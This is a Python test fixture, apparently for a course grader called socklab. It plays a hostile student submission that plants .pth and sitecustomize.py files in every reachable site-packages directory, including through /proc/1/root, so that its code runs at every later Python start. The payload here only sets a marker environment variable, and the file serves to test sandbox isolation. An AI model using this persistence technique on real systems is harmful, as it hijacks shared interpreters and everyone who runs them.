# Hostile submission: before serving, it tries to plant a .pth file (and a
# sitecustomize.py) in every site-packages it can find: the interpreter's own, the
# system's, socklab's cached student interpreter (~/.cache/socklab), and the same places
# seen through /proc/1/root. Such a file runs in every later Python start there: in the
# grader, or in a classmate's program. Then it serves correctly. Nothing is overwritten
# (O_EXCL), and what it writes only sets an environment variable, with a marker.
import glob
import os
import site
import sys
import sysconfig
import time

from hostile_echo import serve

MARK = "SOCKLAB-HOSTILE-IMPLANT"
PTH = f"# {MARK}\nimport os; os.environ.setdefault('SOCKLAB_HOSTILE_IMPLANT', 'pth')\n"
CUSTOM = f"# {MARK}\nimport os\nos.environ.setdefault('SOCKLAB_HOSTILE_IMPLANT', 'sitecustomize')\n"
DEADLINE = time.monotonic() + 2.0


def targets() -> set[str]:
    dirs = set(site.getsitepackages() + [site.getusersitepackages()])
    dirs.update(v for k, v in sysconfig.get_paths().items() if k in ("purelib", "platlib", "stdlib"))
    for prefix in {sys.prefix, sys.base_prefix, sys.exec_prefix, "/usr", "/usr/local"}:
        dirs.update(glob.glob(f"{prefix}/lib/python3*/site-packages"))
        dirs.update(glob.glob(f"{prefix}/lib/python3*/dist-packages"))
        dirs.update(glob.glob(f"{prefix}/lib/python3*"))
        dirs.add(prefix)
    dirs.update(glob.glob("/usr/lib/python3*/") + ["/usr/lib/python3/dist-packages"])
    for home in {os.path.expanduser("~"), "/root", *glob.glob("/home/*")}:
        cache = f"{home}/.cache/socklab"
        dirs.add(cache)
        dirs.update(glob.glob(f"{cache}/*/lib/python3*/site-packages"))
    for folder, subdirs, _ in os.walk("/"):  # any other site-packages, for a bounded while
        subdirs[:] = [d for d in subdirs if f"{folder}/{d}" not in ("/proc", "/sys", "/dev")]
        if os.path.basename(folder) in ("site-packages", "dist-packages"):
            dirs.add(folder)
            subdirs[:] = []
        if time.monotonic() > DEADLINE:
            break
    return dirs | {f"/proc/1/root{d}" for d in dirs if d.startswith("/")}


def plant(folder: str, name: str, text: str) -> str:
    try:
        fd = os.open(os.path.join(folder, name), os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
    except OSError as exc:
        return type(exc).__name__
    with os.fdopen(fd, "w") as fh:
        fh.write(text)
    return "PLANTED"


outcome = {}
for folder in sorted(targets()):
    outcome[folder] = plant(folder, "zz_socklab_hostile_implant.pth", PTH)
    if "site-packages" in folder or "dist-packages" in folder:
        plant(folder, "sitecustomize.py", CUSTOM)
planted = [f for f, how in outcome.items() if how == "PLANTED"]
print(f"tried {len(outcome)} folders; planted in {planted}", flush=True)

serve(int(sys.argv[1]))
